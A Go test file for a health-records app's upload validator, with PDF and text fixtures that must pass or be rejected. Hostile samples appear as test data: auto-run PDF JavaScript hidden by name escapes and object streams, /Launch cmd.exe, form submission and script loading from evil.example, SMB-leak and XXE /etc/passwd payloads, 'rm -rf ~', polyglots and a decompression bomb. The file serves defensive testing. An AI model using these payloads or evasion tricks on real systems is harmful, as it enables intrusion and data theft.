package document_test

import (
	"bytes"
	"compress/zlib"
	"errors"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	"github.com/vitalnexa/vitalnexa/internal/document"
	"github.com/vitalnexa/vitalnexa/internal/phr"
)

var update = flag.Bool("update", false, "rewrite the fixtures in testdata/ from the generators")

// pdfSpec describes a PDF that buildPDF writes with correct offsets.
type pdfSpec struct {
	header     string         // default "%PDF-1.7"
	objs       []string       // object i+1 (1 is the catalog); "" leaves a gap
	packed     map[int]string // objects stored in one FlateDecode object stream
	stmFilter  string         // object stream /Filter, default /FlateDecode
	xrefStream bool           // cross-reference stream instead of a table (forced by packed)
	trailer    string         // extra trailer (or xref stream dictionary) entries
	extra      string         // raw bytes written after the objects, outside the xref
}

// stream returns an object body with a stream whose /Length is correct.
func stream(dict string, data string) string {
	return fmt.Sprintf("<< %s /Length %d >>\nstream\n%s\nendstream", dict, len(data), data)
}

func deflate(b []byte) []byte {
	var buf bytes.Buffer
	zw, _ := zlib.NewWriterLevel(&buf, zlib.BestCompression)
	zw.Write(b)
	zw.Close()
	return buf.Bytes()
}

func buildPDF(s pdfSpec) []byte {
	var b bytes.Buffer
	if s.header == "" {
		s.header = "%PDF-1.7"
	}
	b.WriteString(s.header + "\n%\xe2\xe3\xcf\xd3\n")
	type entry struct{ typ, f1, f2 int }
	entries := map[int]entry{}
	size := len(s.objs) + 1
	for i, body := range s.objs {
		if body == "" {
			continue
		}
		entries[i+1] = entry{1, b.Len(), 0}
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, body)
	}
	if len(s.packed) > 0 {
		s.xrefStream = true
		stm := size
		size++
		var nums []int
		for n := range s.packed {
			nums = append(nums, n)
			if n >= size {
				size = n + 1
			}
		}
		sort.Ints(nums)
		var head, body bytes.Buffer
		for i, n := range nums {
			fmt.Fprintf(&head, "%d %d ", n, body.Len())
			body.WriteString(s.packed[n] + "\n")
			entries[n] = entry{2, stm, i}
		}
		raw := append(head.Bytes(), body.Bytes()...)
		filter := s.stmFilter
		if filter == "" {
			filter = "/FlateDecode"
			raw = deflate(raw)
		}
		entries[stm] = entry{1, b.Len(), 0}
		fmt.Fprintf(&b, "%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter %s /Length %d >>\nstream\n%s\nendstream\nendobj\n",
			stm, len(nums), head.Len(), filter, len(raw), raw)
	}
	b.WriteString(s.extra)
	if s.xrefStream {
		num := size
		size++
		entries[num] = entry{1, b.Len(), 0}
		var rows bytes.Buffer
		for i := 0; i < size; i++ {
			e := entries[i]
			rows.Write([]byte{byte(e.typ), byte(e.f1 >> 24), byte(e.f1 >> 16), byte(e.f1 >> 8), byte(e.f1), byte(e.f2 >> 8), byte(e.f2)})
		}
		z := deflate(rows.Bytes())
		fmt.Fprintf(&b, "%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R %s /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream\nendobj\n",
			num, size, s.trailer, len(z), z)
		fmt.Fprintf(&b, "startxref\n%d\n%%%%EOF\n", entries[num].f1)
		return b.Bytes()
	}
	xref := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", size)
	for i := 1; i < size; i++ {
		if e, ok := entries[i]; ok {
			fmt.Fprintf(&b, "%010d 00000 n \n", e.f1)
		} else {
			b.WriteString("0000000000 00000 f \n")
		}
	}
	fmt.Fprintf(&b, "trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n", size, s.trailer, xref)
	return b.Bytes()
}

// Plain building blocks: catalog (1), pages (2), page (3), content (4), font (5).
const (
	pagesObj   = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
	pageObj    = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>"
	fontObj    = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
	contentTxt = "BT /F1 12 Tf 72 770 Td (Lab report \\(HbA1c\\) 5.4%) Tj ET"
)

// doc returns a one-page PDF with catalog entries cat and objects more (numbered 6, 7, …).
func doc(cat string, more ...string) pdfSpec {
	objs := []string{"<< /Type /Catalog /Pages 2 0 R " + cat + " >>", pagesObj, pageObj, stream("", contentTxt), fontObj}
	return pdfSpec{objs: append(objs, more...)}
}

func build(s pdfSpec) []byte { return buildPDF(s) }

// asciiPDF is doc(cat) with the binary comment after the header made ASCII, at the same
// length so every offset still holds: a PDF that is also valid UTF-8 text.
func asciiPDF(cat string) []byte {
	return bytes.Replace(build(doc(cat)), []byte("%\xe2\xe3\xcf\xd3"), []byte("%asci"), 1)
}

func withTrailer(s pdfSpec, t string) pdfSpec { s.trailer = t; return s }

func packed(cat string, more ...string) pdfSpec {
	s := doc("")
	s.objs[0] = "" // the catalog and the extras live in the object stream
	s.packed = map[int]string{1: "<< /Type /Catalog /Pages 2 0 R " + cat + " >>"}
	for i, m := range more {
		s.packed[6+i] = m
	}
	return s
}

// appendUpdate adds an incremental update that replaces the catalog (object 1).
func appendUpdate(base []byte, catalog string) []byte {
	i := bytes.LastIndex(base, []byte("startxref\n"))
	var prev int
	fmt.Sscanf(string(base[i+len("startxref\n"):]), "%d", &prev)
	b := bytes.NewBuffer(append([]byte{}, base...))
	obj := b.Len()
	fmt.Fprintf(b, "1 0 obj\n%s\nendobj\n", catalog)
	xref := b.Len()
	fmt.Fprintf(b, "xref\n0 1\n0000000000 65535 f \n1 1\n%010d 00000 n \ntrailer\n<< /Size 6 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n", obj, prev, xref)
	return b.Bytes()
}

func replace(b []byte, old, new string) []byte {
	return bytes.Replace(b, []byte(old), []byte(new), 1)
}

type checkCase struct {
	name string // also the fixture file in testdata/
	data func() []byte
	want string // document.KindPDF, document.KindText, phr.EINVALID or document.EUNSUPPORTED
	msg  string // a substring of the safe message, for rejections
}

func checkCases() []checkCase {
	b := func(s string) func() []byte { return func() []byte { return []byte(s) } }
	p := func(s pdfSpec) func() []byte { return func() []byte { return build(s) } }
	base := build(doc(""))
	return []checkCase{
		// PDFs that must be accepted.
		{"accept_plain.pdf", p(doc("")), document.KindPDF, ""},
		{"accept_pdf20.pdf", p(pdfSpec{header: "%PDF-2.0", objs: doc("").objs}), document.KindPDF, ""},
		{"accept_openaction_dest.pdf", p(doc("/OpenAction [3 0 R /FitH null]")), document.KindPDF, ""},
		{"accept_openaction_goto.pdf", p(doc("/OpenAction << /S /GoTo /D [3 0 R /Fit] >>")), document.KindPDF, ""},
		{"accept_uri_link.pdf", p(doc("", "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://example.org/) >> >>")), document.KindPDF, ""},
		{"accept_indirect_length.pdf", p(func() pdfSpec {
			s := doc("")
			s.objs[3] = fmt.Sprintf("<< /Length 6 0 R >>\nstream\n%s\nendstream", contentTxt)
			s.objs = append(s.objs, fmt.Sprint(len(contentTxt)))
			return s
		}()), document.KindPDF, ""},
		{"accept_objstm.pdf", p(packed("/PageMode /UseNone", "<< /Producer (test) >>")), document.KindPDF, ""},
		{"accept_xref_stream.pdf", p(pdfSpec{objs: doc("").objs, xrefStream: true}), document.KindPDF, ""},
		{"accept_js_word_in_string.pdf", p(doc("/Lang (JavaScript /JS /Launch)")), document.KindPDF, ""}, // a string is not a name

		{"accept_incremental_update.pdf", func() []byte { return appendUpdate(base, "<< /Type /Catalog /Pages 2 0 R /PageMode /UseOutlines >>") }, document.KindPDF, ""},

		// Active content.
		{"reject_js_in_update.pdf", func() []byte {
			return appendUpdate(base, "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (x) >> >>")
		}, phr.EINVALID, "JavaScript"}, // JS added by an incremental update
		{"reject_openaction_js.pdf", p(doc("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")), phr.EINVALID, "JavaScript"},                                              // auto-run JS on open
		{"reject_js_hex_escaped_name.pdf", p(doc("/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>")), phr.EINVALID, "JavaScript"},                                    // #xx escapes hide /JavaScript from a byte grep
		{"reject_js_in_objstm.pdf", p(packed("/OpenAction 6 0 R", "<< /S /JavaScript /JS (app.alert(1)) >>")), phr.EINVALID, "JavaScript"},                                   // JS hidden in a compressed object stream
		{"reject_js_escaped_in_objstm.pdf", p(packed("/OpenAction 6 0 R", "<< /S /J#61vaScript /J#53 (x) >>")), phr.EINVALID, "JavaScript"},                                  // both tricks at once
		{"reject_js_page_aa.pdf", p(doc("/AA << /WC << /JS 6 0 R >> >>", stream("", "app.alert(1)"))), phr.EINVALID, "JavaScript"},                                           // JS in a document-close trigger
		{"reject_names_javascript.pdf", p(doc("/Names << /JavaScript << /Names [(a) 6 0 R] >> >>", "<< /S /GoTo /D [3 0 R /Fit] >>")), phr.EINVALID, "JavaScript"},           // document-level JS name tree
		{"reject_launch.pdf", p(doc("/OpenAction << /S /Launch /F (cmd.exe) >>")), phr.EINVALID, "launch"},                                                                   // starts a program
		{"reject_submitform.pdf", p(doc("/OpenAction << /S /SubmitForm /F (https://evil.example/) >>")), phr.EINVALID, "submit"},                                             // exfiltrates form data
		{"reject_importdata.pdf", p(doc("/OpenAction << /S /ImportData /F (x.fdf) >>")), phr.EINVALID, "import"},                                                             // pulls in outside data
		{"reject_gotor.pdf", p(doc("/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) /D [0 /Fit] >>")), phr.EINVALID, "another file"},                            // opens a remote file (SMB hash leak)
		{"reject_gotoe.pdf", p(doc("/OpenAction << /S /GoToE /T << /R /C /N (a) >> >>")), phr.EINVALID, "embedded"},                                                          // opens an embedded file
		{"reject_embedded_files.pdf", p(doc("/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>", "<< /Type /Filespec /F (a.exe) >>")), phr.EINVALID, "embedded file"}, // attachment
		{"reject_embedded_file_stream.pdf", p(doc("", stream("/Type /EmbeddedFile", "MZ"))), phr.EINVALID, "embedded file"},                                                  // attachment stream, even unreferenced
		{"reject_richmedia.pdf", p(doc("", "<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>")), phr.EINVALID, "rich media"},                                           // Flash/video player
		{"reject_xfa.pdf", p(doc("/AcroForm << /Fields [] /XFA 6 0 R >>", stream("", "<xdp/>"))), phr.EINVALID, "XFA"},                                                       // scriptable XFA form
		{"reject_js_unreferenced.pdf", p(func() pdfSpec {
			s := doc("")
			s.extra = "99 0 obj\n<< /S /JavaScript /JS (x) >>\nendobj\n"
			return s
		}()), phr.EINVALID, "JavaScript"}, // object left out of the xref, found by a lenient viewer's rebuild
		{"reject_encrypted.pdf", p(withTrailer(doc(""), "/Encrypt << /Filter /Standard /V 1 /R 2 /O <00> /U <00> /P -4 >>")), phr.EINVALID, "encrypted"}, // cannot be inspected

		// Broken structure.
		{"reject_truncated_half.pdf", func() []byte { return base[:len(base)/2] }, phr.EINVALID, "malformed"},                                     // upload cut off
		{"reject_truncated_no_eof.pdf", func() []byte { return bytes.TrimSuffix(base, []byte("%%EOF\n")) }, phr.EINVALID, "%%EOF"},                // last bytes missing
		{"reject_pdf_then_zip.pdf", func() []byte { return append(append([]byte{}, base...), "PK\x03\x04zipdata"...) }, phr.EINVALID, "%%EOF"},    // PDF/ZIP polyglot, ZIP at the end
		{"reject_zip_then_pdf.pdf", func() []byte { return append([]byte("PK\x03\x04\x14\x00\x00\x00"), base...) }, document.EUNSUPPORTED, "ZIP"}, // PDF/ZIP polyglot, ZIP first
		{"reject_bad_version.pdf", func() []byte { return replace(base, "%PDF-1.7", "%PDF-9.9") }, phr.EINVALID, "header"},
		{"reject_no_startxref.pdf", func() []byte { return replace(base, "startxref", "startxrex") }, phr.EINVALID, "startxref"},
		{"reject_startxref_wrong.pdf", func() []byte {
			i := bytes.LastIndex(base, []byte("startxref\n"))
			return append(append([]byte{}, base[:i]...), "startxref\n17\n%%EOF\n"...)
		}, phr.EINVALID, "cross-reference"},
		{"reject_xref_offset_wrong.pdf", func() []byte { return replace(base, "0000000015 00000 n", "0000000016 00000 n") }, phr.EINVALID, "cross-reference"},
		{"reject_no_root.pdf", func() []byte { return replace(base, "/Root 1 0 R", "/Rooo 1 0 R") }, phr.EINVALID, "/Root"},
		{"reject_stream_length_wrong.pdf", func() []byte {
			return replace(base, fmt.Sprintf("/Length %d", len(contentTxt)), fmt.Sprintf("/Length %d", len(contentTxt)-3))
		}, phr.EINVALID, "/Length"},
		{"reject_stream_length_huge.pdf", p(func() pdfSpec {
			s := doc("")
			s.objs[3] = "<< /Length 99999999 >>\nstream\n" + contentTxt + "\nendstream"
			return s
		}()), phr.EINVALID, "longer"}, // length past the end of the file
		{"reject_unterminated_dict.pdf", func() []byte { return replace(base, "/BaseFont /Helvetica >>", "/BaseFont /Helvetica  ") }, phr.EINVALID, "malformed"},
		{"reject_bad_name_escape.pdf", p(doc("/PageMode /Use#zzNone")), phr.EINVALID, "malformed"},
		{"reject_deep_nesting.pdf", p(doc("/X " + strings.Repeat("[", 5000) + strings.Repeat("]", 5000))), phr.EINVALID, "nested"}, // stack exhaustion
		{"reject_objstm_other_filter.pdf", p(func() pdfSpec {
			s := packed("/OpenAction 6 0 R", "<< /S /JavaScript >>")
			s.stmFilter = "/ASCIIHexDecode"
			return s
		}()), phr.EINVALID, "cannot inspect"}, // uninspectable compression hides content
		{"reject_objstm_bomb.pdf", p(func() pdfSpec {
			s := packed("")
			s.packed[6] = "<< /Pad [" + strings.Repeat(" ", 4<<20) + "] >>"
			return s
		}()), phr.EINVALID, "bomb"}, // decompression bomb

		// Text.
		{"accept_ascii.txt", b("HbA1c 5.4 %\nLDL 2.1 mmol/L\r\n"), document.KindText, ""},
		{"accept_utf8.txt", b("\ufeffBlutzucker: 5,4 mmol/L — Müller, 血糖 😀\n"), document.KindText, ""},
		{"accept_lt_sign.txt", b("a < b and x<y; <not markup>\n"), document.KindText, ""},
		{"reject_nul.txt", b("hello\x00world"), document.EUNSUPPORTED, "NUL"},
		{"reject_invalid_utf8.txt", b("caf\xe9 latin-1\n"), document.EUNSUPPORTED, "UTF-8"},
		{"reject_utf16.txt", b("\xff\xfeh\x00i\x00"), document.EUNSUPPORTED, "NUL"},
		{"reject_html_named_txt.txt", b("  \n<!DOCTYPE html><html><script>alert(1)</script></html>"), document.EUNSUPPORTED, "markup"},                      // HTML named .txt (stored XSS)
		{"reject_html_bom.txt", b("\ufeff<HTML><body>x</body></HTML>"), document.EUNSUPPORTED, "markup"},                                                    // BOM before markup
		{"reject_script_inside.txt", b("notes\nsee <ScRiPt src=//evil.example/x.js></script>\n"), document.EUNSUPPORTED, "script"},                          // script later in the text
		{"reject_svg.txt", b("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"), document.EUNSUPPORTED, "markup"},                           // SVG runs script
		{"reject_xml.txt", b("<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"), document.EUNSUPPORTED, "markup"}, // XXE payload

		// Binaries, whatever they are named.
		// Attack: a PDF with active content behind a line of text, which Check would take for
		// text but a PDF reader (which looks for %PDF- in the first kilobyte) opens as a PDF.
		// All ASCII, so valid UTF-8 text but for its header.
		{"reject_pdf_after_newline.txt", func() []byte {
			return append([]byte("\n"), asciiPDF("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")...)
		}, phr.EINVALID, "PDF header"},
		{"reject_pdf_after_text.txt", func() []byte {
			return append([]byte("Lab report follows\n"), asciiPDF("/OpenAction << /S /Launch /F (cmd.exe) >>")...)
		}, phr.EINVALID, "PDF header"},
		{"reject_ps_adobe_pdf_header.txt", b("Lab report\n%!PS-Adobe-3.0 PDF-1.7\n"), phr.EINVALID, "PDF header"},
		{"reject_pdf_after_bom.txt", func() []byte { return append([]byte("\ufeff"), base...) }, phr.EINVALID, "PDF header"},
		// Text that a program on the user's machine would run or render actively.
		{"reject_script_after_newline.txt", b("\n#!/bin/sh\nrm -rf ~\n"), document.EUNSUPPORTED, "script"},
		{"reject_rtf_object.txt", b("{\\rtf1\\ansi{\\object\\objemb{\\*\\objdata 0105}}}"), document.EUNSUPPORTED, "RTF"},
		{"reject_postscript.txt", b("%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n"), document.EUNSUPPORTED, "PostScript"},
		{"reject_url_shortcut.txt", b("\r\n[InternetShortcut]\r\nURL=file:///C:/evil.exe\r\n"), document.EUNSUPPORTED, "shortcut"},
		{"reject_desktop_launcher.txt", b("[Desktop Entry]\nType=Application\nExec=sh -c evil\n"), document.EUNSUPPORTED, "launcher"},
		{"reject_registry.txt", b("Windows Registry Editor Version 5.00\r\n[HKEY_CURRENT_USER\\x]\r\n"), document.EUNSUPPORTED, "registry"},
		// A batch file cannot be told from notes by its bytes; it is harmless text once it is
		// handed out as .txt (DownloadName).
		{"accept_batch_as_text.txt", b("@echo off\r\ndel /q *\r\n"), document.KindText, ""},

		{"reject_elf.pdf", b("\x7fELF\x02\x01\x01\x00\x00\x00"), document.EUNSUPPORTED, "ELF"},    // Linux executable renamed .pdf
		{"reject_exe.pdf", b("MZ\x90\x00\x03\x00\x00\x00\x04\x00"), document.EUNSUPPORTED, "PE"},  // Windows .exe renamed .pdf
		{"reject_zip.pdf", b("PK\x03\x04\x14\x00\x00\x00\x08\x00"), document.EUNSUPPORTED, "ZIP"}, // archive renamed .pdf
		{"reject_png.pdf", b("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"), document.EUNSUPPORTED, ""},   // image
		{"reject_empty.txt", b(""), phr.EINVALID, "empty"},
	}
}

func TestCheck(t *testing.T) {
	for _, tc := range checkCases() {
		t.Run(tc.name, func(t *testing.T) {
			data := tc.data()
			path := filepath.Join("testdata", tc.name)
			if *update {
				if err := os.WriteFile(path, data, 0o644); err != nil {
					t.Fatal(err)
				}
			} else if got, err := os.ReadFile(path); err != nil || !bytes.Equal(got, data) {
				t.Fatalf("testdata/%s is missing or stale (err %v); run go test ./internal/document -run TestCheck -update", tc.name, err)
			}
			assertCheck(t, data, tc.want, tc.msg)
		})
	}
}

func assertCheck(t *testing.T, data []byte, want, msg string) {
	t.Helper()
	kind, err := document.Check(data)
	if want == document.KindPDF || want == document.KindText {
		if err != nil || kind != want {
			t.Fatalf("Check = %q, %v; want %q, nil", kind, err, want)
		}
		return
	}
	var e *phr.Error
	if !errors.As(err, &e) {
		t.Fatalf("Check = %q, %v; want a *phr.Error %s", kind, err, want)
	}
	if got := e.Code; got != want {
		t.Fatalf("code = %q (%s); want %q", got, e.Message, want)
	}
	if kind != "" {
		t.Fatalf("kind = %q on error", kind)
	}
	if got, want := e.Field, "file"; got != want {
		t.Fatalf("field = %q; want %q", got, want)
	}
	if !strings.Contains(e.Message, msg) {
		t.Fatalf("message %q does not mention %q", e.Message, msg)
	}
}

// TestCheckSharedFixtures runs real-world and hand-made files from ../shared/testdata/pdf,
// with the expectation stated for each in its SOURCES.md.
func TestCheckSharedFixtures(t *testing.T) {
	dir := filepath.Join("..", "..", "..", "shared", "testdata", "pdf")
	if _, err := os.Stat(dir); err != nil {
		t.Skipf("shared PDF fixtures not present at %s: %v", dir, err)
	}
	t.Parallel()
	tests := []struct {
		file string
		want string // "" means any rejection
	}{
		{"benign_minimal_pdftex.pdf", document.KindPDF},      // PDF 1.5 with object and xref streams
		{"benign_libreoffice_writer.pdf", document.KindPDF},  // harmless /OpenAction destination
		{"hostile_openaction_javascript.pdf", ""},            // auto-run JavaScript
		{"hostile_embedded_file.pdf", ""},                    // attached file
		{"corrupt_truncated_bug1020226.pdf", ""},             // truncated, no xref
		{"made_plain_report.pdf", document.KindPDF},          //
		{"made_goto_page1_openaction.pdf", document.KindPDF}, // open at page 1
		{"made_launch_action.pdf", ""},                       // /Launch on open
		{"made_zip_then_pdf_polyglot.pdf", ""},               // ZIP with a PDF appended
		{"made_html_named_as.pdf", document.EUNSUPPORTED},    // HTML with a script, named .pdf
	}
	for _, tc := range tests {
		t.Run(tc.file, func(t *testing.T) {
			data, err := os.ReadFile(filepath.Join(dir, tc.file))
			if err != nil {
				t.Skipf("fixture absent: %v", err)
			}
			kind, err := document.Check(data)
			switch tc.want {
			case document.KindPDF, document.KindText:
				if err != nil || kind != tc.want {
					t.Fatalf("Check = %q, %v; want %q", kind, err, tc.want)
				}
			case "":
				if err == nil {
					t.Fatalf("Check = %q, nil; want a rejection", kind)
				}
				if c := phr.ErrorCode(err); c != phr.EINVALID && c != document.EUNSUPPORTED {
					t.Fatalf("code = %q", c)
				}
			default:
				if got := phr.ErrorCode(err); got != tc.want {
					t.Fatalf("code = %q (%v); want %q", got, err, tc.want)
				}
			}
		})
	}
}

// bigPDF is a valid PDF of about n bytes: one large binary stream and many small objects.
func bigPDF(n int) []byte {
	s := doc("")
	blob := bytes.Repeat([]byte("\x00\xffBT (x) Tj ET endstream endobj 9 0 obj /JS "), n/2/45)
	s.objs = append(s.objs, stream("/Filter /FlateDecode", string(blob)))
	for i := 0; len(s.objs) < 4+n/2/120; i++ {
		s.objs = append(s.objs, fmt.Sprintf("<< /Type /Annot /Subtype /Link /Rect [0 0 %d 9] /A << /S /GoTo /D [3 0 R /Fit] >> >>", i))
	}
	return build(s)
}

func TestCheckLarge(t *testing.T) {
	if testing.Short() {
		t.Skip("large input")
	}
	t.Parallel()
	data := bigPDF(20 << 20)
	// Stream data is skipped by /Length, so the look-alike tokens inside it are not scanned.
	assertCheck(t, data, document.KindPDF, "")
	text := bytes.Repeat([]byte("Blutdruck 120/80 mmHg — ok\n"), (20<<20)/28)
	assertCheck(t, text, document.KindText, "")
}

func BenchmarkCheck20MiBPDF(b *testing.B) {
	data := bigPDF(20 << 20)
	b.SetBytes(int64(len(data)))
	for b.Loop() {
		document.Check(data)
	}
}

func TestDownloadNameEndsInTheProvenKind(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct{ name, kind, want string }{
		{"notes.txt", document.KindText, "notes.txt"},
		{"Notes.TXT", document.KindText, "Notes.TXT"},
		{"scan.pdf", document.KindPDF, "scan.pdf"},
		{"scan", document.KindPDF, "scan.pdf"},
		// A script or a PDF-looking name handed out as what its bytes are.
		{"run.bat", document.KindText, "run.bat.txt"},
		{"report.pdf", document.KindText, "report.pdf.txt"},
		{"notes.txt", document.KindPDF, "notes.txt.pdf"},
		// A right-to-left override would show "invoicetab.txt" for a .bat.
		{"invoice\u202Etxt.bat", document.KindText, "invoicetxt.bat.txt"},
		{"a\u200Bb\u2066.txt", document.KindText, "ab.txt"},
		{" \u202E ", document.KindText, "document.txt"},
	} {
		if got := document.DownloadName(tc.name, tc.kind); got != tc.want {
			t.Errorf("DownloadName(%q, %q) = %q, want %q", tc.name, tc.kind, got, tc.want)
		}
	}
}
